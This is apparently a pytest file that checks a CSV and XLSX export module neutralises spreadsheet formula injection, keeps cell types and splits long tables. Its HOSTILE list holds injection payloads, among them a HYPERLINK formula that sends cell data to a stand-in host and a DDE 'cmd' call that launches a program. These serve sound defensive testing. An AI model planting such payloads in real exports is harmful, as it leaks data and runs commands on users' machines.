"""CSV and XLSX files of tables open cleanly, keep numbers as numbers and run no formula."""

from __future__ import annotations

import csv
import datetime
import io
import tempfile
from decimal import Decimal

import openpyxl
import pytest

from cxmaturity.exports.tabular import Column, Table, csv_bytes, safe_text, write_xlsx

HOSTILE = [
    '=HYPERLINK("http://x?"&A1)',
    "@SUM(1+1)",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "\tTabbed AG",
    "\rReturn GmbH",
]
COLUMNS = (Column("id", 6), Column("client", 30), Column("score", 8), Column("when", 19))


def hostile_table() -> Table:
    rows = [[number, name, Decimal("2.5"), None] for number, name in enumerate(HOSTILE, 1)]
    return Table("clients", COLUMNS, rows)


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 with BOM"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def read_xlsx(data: bytes):
    return openpyxl.load_workbook(io.BytesIO(data))


def xlsx_bytes(*tables: Table) -> bytes:
    out = io.BytesIO()
    write_xlsx(tables, out)
    return out.getvalue()


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_that_starts_a_formula_gets_a_leading_apostrophe(text):
    assert safe_text(text) == "'" + text


@pytest.mark.parametrize("text", ["Müller & Söhne", "ACME = good", "1-2-3 GmbH", "", "'quoted"])
def test_harmless_text_stays_as_it_is(text):
    assert safe_text(text) == text


def test_a_csv_read_back_has_every_hostile_name_prefixed_and_nothing_else_changed():
    rows = read_csv(csv_bytes(hostile_table()))
    assert rows[0] == ["id", "client", "score", "when"]
    assert [row[1] for row in rows[1:]] == ["'" + text for text in HOSTILE]
    assert [row[0] for row in rows[1:]] == [str(n) for n in range(1, len(HOSTILE) + 1)]
    assert {row[2] for row in rows[1:]} == {"2.5"}
    assert {row[3] for row in rows[1:]} == {""}


def test_a_csv_follows_rfc_4180_crlf_and_doubled_quotes():
    table = Table("t", (Column("a"), Column("b")), [['say "hi"', "two\nlines"], ["x,y", "z"]])
    data = csv_bytes(table)
    assert data.count(b"\r\n") == 3
    assert b'"say ""hi"""' in data
    assert read_csv(data)[1:] == [['say "hi"', "two\nlines"], ["x,y", "z"]]


def test_csv_cells_of_every_kind_are_plain_text_a_machine_reads_back():
    when = datetime.datetime(2026, 12, 1, 9, 30, tzinfo=datetime.UTC)
    row = [True, False, 3, 2.75, Decimal("-0.4"), datetime.date(2026, 3, 31), when, None]
    columns = tuple(Column(f"c{n}") for n in range(len(row)))
    rows = read_csv(csv_bytes(Table("t", columns, [row])))
    assert rows[1] == [
        "true", "false", "3", "2.75", "-0.4", "2026-03-31", "2026-12-01 09:30:00", ""
    ]  # fmt: skip


def test_a_negative_number_is_never_prefixed():
    rows = read_csv(csv_bytes(Table("t", (Column("change"),), [[Decimal("-0.5")], [-2]])))
    assert [row[0] for row in rows[1:]] == ["-0.5", "-2"]


def test_an_xlsx_read_back_has_hostile_names_as_text_and_no_formula():
    book = read_xlsx(xlsx_bytes(hostile_table()))
    sheet = book["clients"]
    names = [sheet.cell(row=n, column=2) for n in range(2, len(HOSTILE) + 2)]
    # Without lxml, XML reads a carriage return back as a line feed; the prefix is what matters.
    shown = [cell.value.replace("\r", "\n") for cell in names]
    assert shown == ["'" + text.replace("\r", "\n") for text in HOSTILE]
    assert {cell.data_type for cell in names} == {"s"}
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.coordinate


def test_xlsx_numbers_stay_numbers_and_booleans_and_dates_keep_their_type():
    when = datetime.datetime(2026, 12, 1, 9, 30, tzinfo=datetime.UTC)
    row = [7, Decimal("2.5"), 2.75, True, datetime.date(2026, 3, 31), when, None, "-"]
    columns = tuple(Column(f"c{n}") for n in range(len(row)))
    sheet = read_xlsx(xlsx_bytes(Table("t", columns, [row])))["t"]
    values = [cell.value for cell in sheet[2]]
    assert values[:4] == [7, 2.5, 2.75, True]
    assert isinstance(values[0], int) and isinstance(values[1], float)
    assert values[4] == datetime.datetime(2026, 3, 31)
    assert values[5] == datetime.datetime(2026, 12, 1, 9, 30)
    assert values[6] is None
    assert values[7] == "'-"


def test_an_xlsx_has_one_sheet_per_table_with_a_frozen_bold_header_and_widths():
    other = Table("kpis", (Column("kpi", 14),), [["nps"]])
    book = read_xlsx(xlsx_bytes(hostile_table(), other))
    assert book.sheetnames == ["clients", "kpis"]
    sheet = book["clients"]
    assert sheet.freeze_panes == "A2"
    assert [cell.value for cell in sheet[1]] == ["id", "client", "score", "when"]
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet.column_dimensions["B"].width == 30
    assert sheet.column_dimensions["A"].width >= len("id") + 2


def test_characters_xml_cannot_hold_are_dropped_from_xlsx_not_refused():
    table = Table("t", (Column("a"),), [["Bell\x07 AG"]])
    assert read_xlsx(xlsx_bytes(table))["t"]["A2"].value == "Bell AG"


def test_rows_are_read_once_as_they_come():
    produced = []

    def rows():
        for n in range(3):
            produced.append(n)
            yield [n]

    out = io.BytesIO()
    write_xlsx([Table("t", (Column("n"),), rows())], out)
    assert produced == [0, 1, 2]
    assert [c.value for c in read_xlsx(out.getvalue())["t"]["A"]] == ["n", 0, 1, 2]


def test_a_table_longer_than_a_sheet_goes_on_in_a_second_sheet_with_its_header():
    out = io.BytesIO()
    write_xlsx([Table("answers", (Column("n"),), ([n] for n in range(5)))], out, sheet_rows=3)
    book = read_xlsx(out.getvalue())
    assert book.sheetnames == ["answers", "answers (2)"]
    assert [c.value for c in book["answers"]["A"]] == ["n", 0, 1, 2]
    assert [c.value for c in book["answers (2)"]["A"]] == ["n", 3, 4]
    assert book["answers (2)"].freeze_panes == "A2"


def test_a_workbook_whose_rows_fail_half_way_leaves_no_temporary_file(tmp_path, monkeypatch):
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))

    def rows():
        yield ["first"]
        raise OSError("the database went away")

    with pytest.raises(OSError, match="went away"):
        write_xlsx([Table("t", (Column("x"),), rows())], io.BytesIO())

    assert list(tmp_path.iterdir()) == []
